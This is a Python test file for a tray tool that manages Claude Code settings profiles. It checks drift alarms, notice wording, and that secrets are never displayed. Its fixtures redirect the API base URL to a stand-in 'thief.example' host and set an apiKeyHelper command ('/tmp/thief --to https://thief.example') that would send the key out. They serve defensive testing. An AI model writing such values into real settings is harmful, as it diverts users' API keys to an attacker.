"""What is shown of the settings: enough to act on, never a secret, never more than fits."""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.desktop.every_notice import (
    ALARMS,
    ERRORS,
    RENDERED,
    ROWS,
    SALT,
    SECRET,
    every_notice,
    reading_of,
    settings_of,
    state_of,
)

from profiles.base.errors import NotUnlockedError, PkccError
from profiles.base.secret_markers import marker
from profiles.switching.memory.state import Current, Step, secret_digest
from profiles.switching.reading.drift import Change
from profiles.switching.reading.reading import Reading
from profiles.undo.history import entries
from tray.icon.base import Entry
from tray.manager.access.links import is_local_page
from tray.notices.fitting import shortened
from tray.runtime.menu import notice_words as words
from tray.runtime.menu.change_words import short_line
from tray.runtime.menu.face import face_of, title_of
from tray.runtime.menu.menu import build_menu
from tray.runtime.menu.notice_words import (
    LONGEST_TITLE,
    drift_notice,
    problem_notice,
    restored_notice,
    summary_notice,
    switched_notice,
)
from tray.runtime.menu.tray_state import ProfileRow, TrayState, marks_of, present
from tray.terminal.words.setting_names import slot_name


def all_texts(reading: Reading, rows: tuple[ProfileRow, ...] = ROWS) -> list[str]:
    """Every text of that reading that a user, or somebody behind them, can see."""
    state = present(reading, rows)
    face = face_of(state)
    notices = [
        drift_notice(reading, guarded=True),
        restored_notice(reading),
        summary_notice(state),
    ]
    texts = [face.title, face.tooltip, *(entry.label for entry in _flat(build_menu(state)))]
    texts += [text for notice in notices for text in (notice.title, notice.body)]
    return texts + [slot_name(change.slot) for change in reading.changes]


def _flat(entries: tuple[Entry, ...]) -> list[Entry]:
    return [found for entry in entries for found in (entry, *_flat(entry.children))]


def test_what_the_profile_writes_is_no_drift() -> None:
    """The other tests' settings are what they claim to be."""
    assert reading_of(settings_of()).changes == []


# States ----------------------------------------------------------------------------------------------


def test_active_off_and_an_error_are_told_apart() -> None:
    assert present(reading_of(settings_of()), ROWS).condition == "active"
    assert present(reading_of({}, state_of(None)), ROWS).condition == "off"
    failed = present(reading_of(settings_of()), ROWS, message="It failed")
    assert (failed.condition, face_of(failed).title) == ("error", "Claude Code: It failed")


def test_drift_is_seen_before_an_error_of_another_kind() -> None:
    changed = reading_of(settings_of(ANTHROPIC_BASE_URL="https://thief.example"))
    state = present(changed, ROWS, message="It failed")
    assert (state.condition, state.message) == ("drift", "It failed")
    assert "It failed" in [entry.label for entry in build_menu(state)]


def test_an_unparsable_file_is_an_error_in_its_own_words() -> None:
    reading = Reading(state_of(), "unparsable", {}, [], PkccError("settings.json line 3, column 7: no comma"))
    state = present(reading, ROWS, message="older")
    assert (state.condition, state.drift) == ("error", ())
    assert face_of(state).title == "Claude Code: settings.json line 3, column 7: no comma"


def test_a_file_that_is_gone_is_drift_only_while_a_profile_is_active() -> None:
    assert present(reading_of(None), ROWS).drift == ("the settings file is gone",)
    assert present(reading_of(None, state_of(None)), ROWS).condition == "off"


def test_what_undo_would_do_and_the_latest_profiles_come_from_the_history() -> None:
    steps = [
        Step(1.0, "switch", "play", Current(), None, "", ""),
        Step(2.0, "off", None, Current("play"), None, "", ""),
        Step(3.0, "switch", "work", Current(), None, "", ""),
    ]
    for shown, undo in (
        (steps[:0], ""),
        (steps[:1], "back to Off"),
        (steps[:2], "back to Playing around"),
        (steps, "back to Off"),
    ):
        latest = next(iter(entries(shown, [], "/s")), None)
        reading = reading_of(settings_of(), state_of()._replace(history=shown))
        state = present(reading, ROWS, latest=latest)
        assert state.undo == undo
    assert state.recent == ("work", "play")


def test_a_profile_is_called_by_its_label_and_by_its_name_when_it_is_gone() -> None:
    state = TrayState("active", "play", ROWS)
    assert title_of(state) == "Playing around"
    assert title_of(state._replace(profiles=())) == "play"
    assert title_of(state._replace(active=None)) == "off"


# Ignoring --------------------------------------------------------------------------------------------


def test_only_the_very_changes_that_were_ignored_are_ignored() -> None:
    first = reading_of(settings_of(ANTHROPIC_CUSTOM_HEADERS="x-portkey-provider: @other"))
    ignored = marks_of(first)
    assert present(first, ROWS, ignored=ignored).condition == "active"
    for other in (
        settings_of(ANTHROPIC_CUSTOM_HEADERS="x-portkey-provider: @third"),
        settings_of(ANTHROPIC_CUSTOM_HEADERS="x-portkey-provider: @other\nx-portkey-trace-id: t"),
        settings_of(ANTHROPIC_CUSTOM_HEADERS=None),
        None,
    ):
        assert present(reading_of(other), ROWS, ignored=ignored).condition == "drift"


def test_two_secrets_that_look_alike_are_two_changes() -> None:
    marks = [
        marks_of(reading_of(settings_of(ANTHROPIC_AUTH_TOKEN=secret))) for secret in (SECRET, SECRET + "x")
    ]
    assert marks[0] != marks[1]
    assert SECRET not in str(marks)


# Words -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("settings", "told", "shown"), ALARMS.values(), ids=ALARMS.keys())
def test_what_sends_the_key_elsewhere_is_called_by_its_name(
    settings: dict[str, Any], told: tuple[str, str], shown: tuple[str, str]
) -> None:
    reading = reading_of(settings)
    notice = drift_notice(reading, guarded=True)
    assert (notice.title, notice.body.splitlines()[0]) == told
    assert notice.urgent
    changed = present(reading, ROWS).changed
    assert (changed.line, changed.restored, changed.alarming, changed.keepable) == (*shown, True, False)
    assert [action for action, _ in notice.actions] == ["restore", "diff"], "never a click that keeps it"


@pytest.mark.parametrize(
    ("guarded", "helper", "slot", "said"),
    [
        (True, True, "env.ANTHROPIC_BASE_URL", "not given"),
        (False, True, "env.ANTHROPIC_BASE_URL", "may have been sent"),
        (True, False, "env.ANTHROPIC_BASE_URL", "may have been sent"),
        (True, True, "header.x-portkey-custom-host", "may have been sent"),
        (True, True, "apiKeyHelper", "may have been sent"),
    ],
)
def test_an_alarm_says_whether_the_key_was_given(guarded: bool, helper: bool, slot: str, said: str) -> None:
    """Who is told a wrong thing replaces a good key, or keeps a stolen one."""
    state = state_of()
    rendered = state.current.rendered
    assert rendered is not None
    current = state.current._replace(rendered=rendered._replace(helper=helper))
    change = Change(slot, "changed", "https://api.portkey.ai", "https://thief.example", alarming=True)
    reading = Reading(state._replace(current=current), "ok", {}, [change])
    assert said in drift_notice(reading, guarded=guarded).body


def test_claude_code_s_own_dialog_is_named_in_the_notice() -> None:
    """The user said Yes to it a moment ago, and would look for a thief."""
    change = Change(
        "env.ANTHROPIC_DEFAULT_SONNET_MODEL",
        "changed",
        "@v/claude-sonnet-5",
        "claude-sonnet-5-5",
        alarming=False,
    )
    state = state_of()
    rendered = state.current.rendered
    assert rendered is not None
    current = state.current._replace(rendered=rendered._replace(dialect="vertex"))
    notice = drift_notice(Reading(state._replace(current=current), "ok", {}, [change]), guarded=True)
    assert notice.title == "Claude Code settings changed"
    assert notice.body.splitlines() == [
        "Claude Code's own dialog changed the Sonnet model, and dropped the provider.",
        "Sonnet model: @v/claude-sonnet-5 is now claude-sonnet-5-5.",
    ]
    assert [action for action, _ in notice.actions] == ["restore", "adopt", "ignore"]


def test_a_harmless_change_is_told_as_people_call_it() -> None:
    changes = [
        Change(
            "env.ANTHROPIC_DEFAULT_SONNET_MODEL", "changed", "claude-sonnet-4-6", "claude-sonnet-4-5", False
        ),
        Change("header.x-portkey-trace-id", "added", "", "t", False),
        Change("header.x-portkey-provider", "removed", "@work", "", False),
        Change("env.OTHER", "removed", "x", "", False),
    ]
    reading = Reading(state_of(), "ok", {}, changes)
    notice = drift_notice(reading, guarded=True)
    assert notice.body.splitlines() == [
        "Sonnet model: claude-sonnet-4-6 is now claude-sonnet-4-5.",
        "Trace id was added: t. Not by pkcc-tray.",
        "And 2 more changes.",
    ]
    assert present(reading, ROWS).changed.line == "Settings changed: Sonnet model and 3 more"


def test_the_dangerous_one_of_many_changes_comes_first() -> None:
    headers = "".join(f"x-portkey-metadata-{number}: x\n" for number in range(50))
    settings = settings_of(
        ANTHROPIC_CUSTOM_HEADERS=headers, ANTHROPIC_VERTEX_BASE_URL="https://thief.example"
    )
    notice = drift_notice(reading_of(settings), guarded=True)
    assert notice.title == "Your key would go elsewhere"
    assert "https://thief.example" in notice.body.splitlines()[0]
    assert len(notice.body.splitlines()) == 3


def test_a_removed_address_of_another_dialect_is_not_said_to_lead_to_anthropic() -> None:
    change = Change(
        "env.ANTHROPIC_VERTEX_BASE_URL", "removed", "https://api.portkey.ai/v1", "", alarming=True
    )
    notice = drift_notice(Reading(state_of(), "ok", {}, [change]), guarded=True)
    assert notice.body.startswith(
        "ANTHROPIC_VERTEX_BASE_URL was removed: your key would go to another address."
    )


def test_what_is_wrong_after_a_click_is_said_and_silence_means_all_is_well() -> None:
    assert switched_notice("Work", (), models_pinned=False) is None
    pinned = switched_notice("Work", ("its key is missing",), models_pinned=True)
    assert pinned is not None
    assert (pinned.title, pinned.actions) == ("Switched", (("undo", "Undo"),))
    assert [line.split()[0] for line in pinned.body.splitlines()] == ["Work", "Running", "its"]


def test_a_second_start_is_answered_with_how_things_stand_and_a_way_in() -> None:
    state = TrayState("active", "play", ROWS)
    assert summary_notice(state).title == "pkcc-tray runs already"
    assert summary_notice(state).body == "Playing around is in use."
    assert [key for key, _ in summary_notice(state).actions] == ["manage:/"]
    assert summary_notice(state._replace(active=None)).body == "No profile is in use."
    broken = summary_notice(state._replace(broken="settings.json is broken (line 7)"))
    assert broken.body.splitlines()[1] == "settings.json is broken (line 7)"


# As a desktop shows them -----------------------------------------------------------------------------


def test_every_title_is_whole_on_one_line_of_any_desktop() -> None:
    """Xfce, GNOME and KDE cut a title to one line: what stands behind the cut is never read."""
    for notice in every_notice():
        assert len(notice.title) <= LONGEST_TITLE, notice
        assert notice.title == notice.title.strip() != ""


def test_no_notice_shows_a_path_or_a_command_for_a_terminal() -> None:
    for notice in every_notice():
        text = f"{notice.title}\n{notice.body}"
        assert not any(part in text for part in ("`", "sudo", "/home", "pkcc-tray doctor")), notice


def test_every_notice_has_three_lines_and_three_buttons_at_most_each_with_something_to_do() -> None:
    for notice in every_notice():
        assert len(notice.body.splitlines()) <= 3, notice
        assert len(notice.actions) <= 3, notice
        assert all(0 < len(text) <= 31 for _, text in notice.actions), notice
        for key, _ in notice.actions:
            assert not key.startswith("manage:") or is_local_page(key.removeprefix("manage:")), key


def test_what_could_not_be_done_is_the_title_and_has_its_way_on() -> None:
    locked = problem_notice(NotUnlockedError("The keyring is locked", ""), "Not switched", "profile:work")
    assert (locked.title, locked.actions) == (
        "Not switched: keyring is locked",
        (("profile:work", "Try again"),),
    )
    closed = problem_notice(ERRORS[0], "Not switched")
    assert closed.title == "Not switched: file not writable"
    assert closed.body == "…/settings.json cannot be written: it belongs to root."
    assert [key for key, _ in closed.actions] == ["manage:/doctor"]
    assert words.keyless_notice("acme", "Acme").actions == (("manage:/keys/acme/enter", "Enter key"),)


# No secret, whatever the file holds ------------------------------------------------------------------

PLACES = [
    lambda text: settings_of(ANTHROPIC_AUTH_TOKEN=text),
    lambda text: settings_of(ANTHROPIC_API_KEY=text),
    lambda text: settings_of(ANTHROPIC_CUSTOM_HEADERS=f"x-portkey-api-key: {text}"),
    lambda text: settings_of(ANTHROPIC_CUSTOM_HEADERS=f"Authorization: Bearer {text}\nx-portkey-trace-id: a"),
    lambda text: settings_of(ANTHROPIC_BASE_URL=f"https://user:{quote(text, safe='')}@thief.example/"),
    lambda text: {**settings_of(), "apiKeyHelper": f"echo {text}"},
    lambda text: {**settings_of(), "apiKeyHelper": f"echo\t{text}"},
    lambda text: {**settings_of(), "apiKeyHelper": f"KEY={text} sh -c 'echo $KEY'"},
    lambda text: {**settings_of(), "env": text},
    lambda text: {**settings_of(), "other": {"secret": text}},
    lambda text: {**settings_of(ANTHROPIC_BASE_URL="https://thief.example"), "env2": {text: text}},
]
AROUND = st.text(alphabet=st.characters(codec="utf-8"), max_size=20)


@pytest.mark.parametrize("place", PLACES)
@given(before=AROUND, after=AROUND)
def test_no_secret_is_in_anything_shown(place: Any, before: str, after: str) -> None:
    for text in (SECRET, f"{before}{SECRET}{after}"):
        reading = reading_of(place(text))
        shown = [each for each in all_texts(reading) if SECRET.casefold() in each.casefold()]
        assert shown == [], shown


@pytest.mark.parametrize(
    "line", ["x-portkey-api-key {}: oops", "x-portkey-api-key={}: oops", "{}: x-portkey-a"]
)
def test_a_key_that_slipped_before_the_colon_is_not_shown(line: str) -> None:
    reading = reading_of(settings_of(ANTHROPIC_CUSTOM_HEADERS=line.format(SECRET)))
    assert not any(SECRET.casefold() in text.casefold() for text in all_texts(reading))


def test_a_key_in_the_place_of_the_helper_is_not_shown() -> None:
    """Anyone who does not know what apiKeyHelper is puts the key itself there."""
    reading = reading_of({**settings_of(), "apiKeyHelper": SECRET})
    assert reading.changes[0].alarming
    assert not any(SECRET in text for text in all_texts(reading))


def test_the_program_in_the_place_of_the_helper_is_named() -> None:
    reading = reading_of({**settings_of(), "apiKeyHelper": "/tmp/thief --to https://thief.example"})
    assert short_line(reading.changes[0]) == "apiKeyHelper: /tmp/thief ••••••••"


def test_a_changed_secret_is_told_as_changed_and_neither_is_shown() -> None:
    reference = "keyring:work"
    env: dict[str, str | int] = {**RENDERED.env, "ANTHROPIC_AUTH_TOKEN": marker(reference)}
    state = state_of("work", RENDERED._replace(env=env), **{reference: secret_digest(SALT, SECRET)})
    assert reading_of(settings_of(ANTHROPIC_AUTH_TOKEN=SECRET), state).changes == []
    reading = reading_of(settings_of(ANTHROPIC_AUTH_TOKEN=SECRET + "other"), state)
    assert [change.slot for change in reading.changes] == ["env.ANTHROPIC_AUTH_TOKEN"]
    assert not any(SECRET in text for text in all_texts(reading))


# Whatever a text holds, and however long -------------------------------------------------------------

ANY_TEXT = st.text(alphabet=st.characters(exclude_categories=()), max_size=200)
LONG = "x" * 1_000_000


@given(text=ANY_TEXT)
def test_whatever_a_value_holds_the_menu_has_single_short_lines(text: str) -> None:
    headers = f"x-portkey-provider: {text}\nx-portkey-{text}: {text}"
    reading = reading_of(settings_of(ANTHROPIC_CUSTOM_HEADERS=headers, ANTHROPIC_BASE_URL=text))
    rows = (ProfileRow("work", text, text), ProfileRow("play", "", "", text))
    state = present(reading, rows, message=text)
    for entry in _flat(build_menu(state)):
        assert len(entry.label.splitlines()) <= 1
        assert len(entry.label) <= 80
    face = face_of(state)
    assert len(face.title.splitlines()) == 1
    assert len(face.tooltip.splitlines()) <= 4


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "/home/a b/.local/state/x/next.json cannot be written: no space left",
            "…/next.json cannot be written: no space left",
        ),
        ("C:\\Users\\Mäx\\settings.json line 3: no comma", "…/settings.json line 3: no comma"),
        (
            "Nothing here opens https://app.portkey.ai/logs/a/b",
            "Nothing here opens https://app.portkey.ai/logs/a/b",
        ),
        ("There is no profile 'x'", "There is no profile 'x'"),
        ("/etc/x is not there yet", "/etc/x is not there yet"),
    ],
)
def test_what_is_wrong_is_not_cut_off_behind_a_long_path(text: str, shown: str) -> None:
    state = TrayState("error", None, ROWS, message=text)
    assert face_of(state).title == f"Claude Code: {shown}"
    assert build_menu(state)[0].label == shown


def test_megabytes_in_a_value_or_a_name_make_no_megabytes_in_the_panel() -> None:
    """They would go over the session bus, at every look, to every panel."""
    headers = f"x-portkey-{LONG}: {LONG}"
    reading = reading_of(settings_of(ANTHROPIC_CUSTOM_HEADERS=headers, ANTHROPIC_BASE_URL=LONG))
    rows = (ProfileRow("work", LONG, LONG),)
    for message in ("", LONG):
        face = face_of(present(reading, rows, message=message))
        assert len(face.title) + len(face.tooltip) < 2_000
    assert all(len(slot_name(change.slot)) < 100 for change in reading.changes)


def test_a_megabyte_is_shortened_for_a_notice_in_no_time() -> None:
    """Taken off letter by letter it would hold up every later notice for minutes."""
    assert shortened(LONG, 120) == "x" * 119 + "…"
    assert shortened("\N{GRINNING FACE}" * 1_000_000, 120) == "\N{GRINNING FACE}" * 59 + "…"
    assert shortened("\N{GRINNING FACE}" * 60, 120) == "\N{GRINNING FACE}" * 60
